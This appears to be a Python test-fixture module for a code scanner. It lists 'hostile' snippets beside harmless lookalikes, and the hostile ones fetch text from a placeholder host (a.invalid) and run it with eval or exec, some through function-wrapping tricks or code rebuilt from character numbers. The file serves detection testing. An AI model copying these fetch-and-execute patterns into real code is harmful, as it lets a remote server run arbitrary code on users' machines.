"""What well-known packages do that only looks like a chain, each beside the chain it looks like."""

from inspection.rules.sample import Sample, js, py

_DESK = (
    "class Desk {\n  constructor(options) { this.options = options; }\n  async open() {\n"
    "    this.news = await (await fetch('https://a.invalid')).text();\n    return run(this.%s);\n  }\n}\n"
    "const run = (told) => eval(told.script);\nmodule.exports = Desk;\n"
)
_BOARD = (
    "import requests\nclass Board:\n    def __init__(self, rules):\n        self.rules = rules\n"
    "    def open(self):\n        self.news = requests.get('https://a.invalid').text\n        eval(self.%s)\n"
)
_NAMED = (
    "import functools, requests\ndef named(page):\n    @functools.wraps(page)\n    def run(code):\n"
    "        exec(code)\n    return run\n"
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "decoded_code": {
        "letters by their numbers, joined": py(
            "import sys\ndef letter(n):\n    return chr(int(n))\nexec(''.join(letter(n) for n in sys.argv))\n",
            "review",
            4,
        ),
    },
    "remote_code": {
        "a member of an object that came from a server": js(_DESK % "news", line=4),
        "the same in Python": py(_BOARD % "news", line=7),
        "a function that is named after another": py(
            _NAMED + "named(print)(requests.get('https://a.invalid').text)\n", line=5
        ),
        "a function that gets another's name by a call": py(
            "import functools, requests\ndef run(code):\n    exec(code)\n"
            "functools.wraps(print)(run)(requests.get('https://a.invalid').text)\n",
            line=3,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "decoded_code": {
        "one letter by its number, among the names of an expression": {
            "app.py": "import sys\nnames = {}\nfor n in sys.argv:\n    names[n] = chr(int(n))\n"
            "eval(names['x'], {}, names)\n"
        },
    },
    "remote_code": {
        "another member than the one that came from a server": {"app.js": _DESK % "options"},
        "the same in Python": {"app.py": _BOARD % "rules"},
        "a function that is named after what a server said": {
            "app.py": _NAMED + "named(requests.get('https://a.invalid'))('1+1')\n"
        },
    },
}
